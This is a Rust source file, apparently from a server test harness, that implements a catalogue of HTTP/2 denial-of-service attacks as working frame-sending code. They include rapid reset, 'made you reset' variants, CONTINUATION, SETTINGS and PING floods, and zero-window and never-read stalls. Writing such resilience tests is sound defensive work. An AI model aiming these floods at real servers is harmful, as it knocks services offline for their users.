//! Attacks over one connection: what each one sends.

use std::io::{Error, ErrorKind, Result, Write};
use std::net::TcpStream;
use std::os::fd::AsFd;
use std::time::{Duration, Instant};

use rustix::event::{PollFd, PollFlags, Timespec, poll};
use testkit::h2::{Frame, code, flag, kind, literal, setting};

use testkit::h2::scan as client;

/// An attack.
pub struct Attack {
    /// Its name.
    pub name: &'static str,
    /// The client's settings.
    pub settings: &'static [(u16, u32)],
    /// Whether what the server sends is read.
    pub reads: bool,
    /// Sends a batch; called until the time is over.
    pub send: fn(&mut Attacker) -> Result<()>,
}

const WIDE: &[(u16, u32)] = &[(setting::INITIAL_WINDOW_SIZE, (1 << 31) - 1)];
const SHUT: &[(u16, u32)] = &[(setting::INITIAL_WINDOW_SIZE, 0)];
/// Streams of attacks that hold some: as many as every server allows.
const STREAMS: u32 = 100;

/// All of them.
pub const ATTACKS: &[Attack] = &[
    attack("rapid reset", &[], true, |a| a.pairs("/1k.txt", reset)),
    attack("rapid reset, passed on", &[], true, |a| a.pairs("/passed/1k.txt", reset)),
    attack("made you reset: window of 0", &[], true, |a| {
        a.pairs("/passed/1k.txt", |id| Frame::window_update(id, 0))
    }),
    attack("made you reset: window overflow", &[], true, |a| {
        a.pairs("/passed/1k.txt", |id| Frame::window_update(id, (1 << 31) - 1))
    }),
    attack("made you reset: DATA behind the end", &[], true, |a| {
        a.pairs("/passed/1k.txt", |id| Frame::data(id, b"x", false))
    }),
    attack("CONTINUATION, full", &[], true, continuation_full),
    attack("CONTINUATION, empty", &[], true, continuation_empty),
    attack("SETTINGS, unread", &[], false, |a| a.repeat(&Frame::settings(&[]))),
    attack("SETTINGS that change 100 windows", SHUT, true, settings_windows),
    attack("PING, unread", &[], false, |a| a.repeat(&Frame::ping([1; 8]))),
    attack("PRIORITY", &[], true, priority),
    attack("DATA, empty", &[], true, empty_data),
    attack("unknown frames", &[], true, |a| a.repeat(&Frame::new(0xbe, 0, 0, []))),
    attack("window of 0, files", SHUT, true, |a| a.hold("/1m.bin")),
    attack("window of 0, passed on", SHUT, true, |a| a.hold("/passed/1m.bin")),
    attack("windows of one byte", SHUT, true, dribble),
    attack("window overflow", WIDE, true, |a| {
        a.streams("/1m.bin", 1)?;
        a.repeat(&Frame::window_update(0, (1 << 31) - 1))
    }),
    attack("never reads, files", WIDE, false, |a| a.hold("/1m.bin")),
    attack("never reads, passed on", WIDE, false, |a| a.hold("/passed/1m.bin")),
    attack("never reads, and goes on asking", WIDE, false, |a| a.streams("/return", 200)),
];

const fn attack(
    name: &'static str,
    settings: &'static [(u16, u32)],
    reads: bool,
    send: fn(&mut Attacker) -> Result<()>,
) -> Attack {
    Attack { name, settings, reads, send }
}

fn reset(id: u32) -> Frame {
    Frame::reset(id, code::CANCEL)
}

/// A connection of an attacker's.
pub struct Attacker {
    socket: TcpStream,
    /// When the attack ends.
    until: Instant,
    next_stream: u32,
    /// Batches so far.
    batches: u64,
    /// Bytes that the server's side took.
    pub sent: u64,
}

impl Attacker {
    /// Connects, and sends the preface and the attack's settings.
    pub fn new(port: u16, attack: &Attack, until: Instant) -> Result<Self> {
        let socket = client::connect(port)?;
        socket.set_write_timeout(Some(Duration::from_millis(50)))?;
        let mut attacker = Self { socket, until, next_stream: 1, batches: 0, sent: 0 };
        attacker.send(&client::start(attack.settings))?;
        Ok(attacker)
    }

    /// The socket, for a reader.
    pub fn socket(&self) -> &TcpStream {
        &self.socket
    }

    /// Sends batch after batch until the time is over or the server ends it: whether it did that.
    pub fn run(&mut self, attack: &Attack) -> bool {
        while Instant::now() < self.until {
            if let Err(e) = (attack.send)(self) {
                return e.kind() != ErrorKind::TimedOut;
            }
            self.batches += 1;
        }
        false
    }

    /// Sends all; `TimedOut` when the attack's time is over before the server takes it.
    fn send(&mut self, mut bytes: &[u8]) -> Result<()> {
        while !bytes.is_empty() {
            match self.socket.write(bytes) {
                Ok(0) => return Err(ErrorKind::WriteZero.into()),
                Ok(length) => {
                    self.sent += length as u64;
                    bytes = &bytes[length..];
                }
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => {}
                Err(e) => return Err(e),
            }
            if Instant::now() >= self.until {
                return Err(ErrorKind::TimedOut.into());
            }
        }
        Ok(())
    }

    /// Waits a moment, for the server's end of it.
    fn wait(&mut self) -> Result<()> {
        let interest = PollFlags::RDHUP | PollFlags::HUP | PollFlags::ERR;
        let mut polled = [PollFd::from_borrowed_fd(self.socket.as_fd(), interest)];
        let moment = Timespec { tv_sec: 0, tv_nsec: 10_000_000 };
        match poll(&mut polled, Some(&moment)) {
            Ok(0) => Ok(()),
            Ok(_) => Err(ErrorKind::ConnectionReset.into()),
            Err(e) => Err(Error::from(e)),
        }
    }

    fn frames(&mut self, frames: impl IntoIterator<Item = Frame>) -> Result<()> {
        let bytes: Vec<u8> = frames.into_iter().flat_map(|f| f.encode()).collect();
        self.send(&bytes)
    }

    /// 16 KB of one frame.
    fn repeat(&mut self, frame: &Frame) -> Result<()> {
        let frame = frame.encode();
        let count = 16_384usize.div_ceil(frame.len());
        self.send(&frame.repeat(count))
    }

    /// So many new streams.
    fn streams(&mut self, path: &str, count: u32) -> Result<()> {
        let head = client::head("GET", path);
        let first = self.next_stream;
        self.next_stream += 2 * count;
        self.frames((0..count).map(|n| Frame::headers(first + 2 * n, &head, true)))
    }

    /// New streams, each with a frame behind its request.
    fn pairs(&mut self, path: &str, behind: fn(u32) -> Frame) -> Result<()> {
        let head = client::head("GET", path);
        let first = self.next_stream;
        self.next_stream += 2 * STREAMS;
        let pair = |id| [Frame::headers(id, &head, true), behind(id)];
        self.frames((0..STREAMS).flat_map(|n| pair(first + 2 * n)))
    }

    /// Some streams at the beginning, and nothing more.
    fn hold(&mut self, path: &str) -> Result<()> {
        if self.batches == 0 { self.streams(path, STREAMS) } else { self.wait() }
    }

    /// The beginning of a header block without an end.
    fn endless(&mut self) -> Result<()> {
        let head = client::head("GET", "/1k.txt");
        self.frames([Frame::new(kind::HEADERS, flag::END_STREAM, 1, head)])
    }
}

fn continuation_full(a: &mut Attacker) -> Result<()> {
    if a.batches == 0 {
        a.endless()?;
    }
    let field = literal("x-field", [b'v'; 100]);
    a.frames([Frame::new(kind::CONTINUATION, 0, 1, field.repeat(16_384 / field.len()))])
}

fn continuation_empty(a: &mut Attacker) -> Result<()> {
    if a.batches == 0 {
        a.endless()?;
    }
    a.repeat(&Frame::new(kind::CONTINUATION, 0, 1, []))
}

fn settings_windows(a: &mut Attacker) -> Result<()> {
    if a.batches == 0 {
        a.streams("/1m.bin", STREAMS)?;
    }
    let change = |window| Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, window)]).encode();
    a.send(&[change(0), change(1)].concat().repeat(500))
}

fn priority(a: &mut Attacker) -> Result<()> {
    let first = a.next_stream;
    a.next_stream += 1000;
    a.frames((0..500).map(|n| Frame::priority(first + 2 * n, 0, n.is_multiple_of(2), n as u8)))
}

fn empty_data(a: &mut Attacker) -> Result<()> {
    if a.batches == 0 {
        a.frames([Frame::headers(1, client::head("POST", "/post"), false)])?;
    }
    a.repeat(&Frame::data(1, b"", false))
}

fn dribble(a: &mut Attacker) -> Result<()> {
    if a.batches == 0 {
        return a.streams("/1m.bin", STREAMS);
    }
    let updates: Vec<Frame> = (0..STREAMS).map(|n| Frame::window_update(2 * n + 1, 1)).collect();
    a.frames(updates)
}
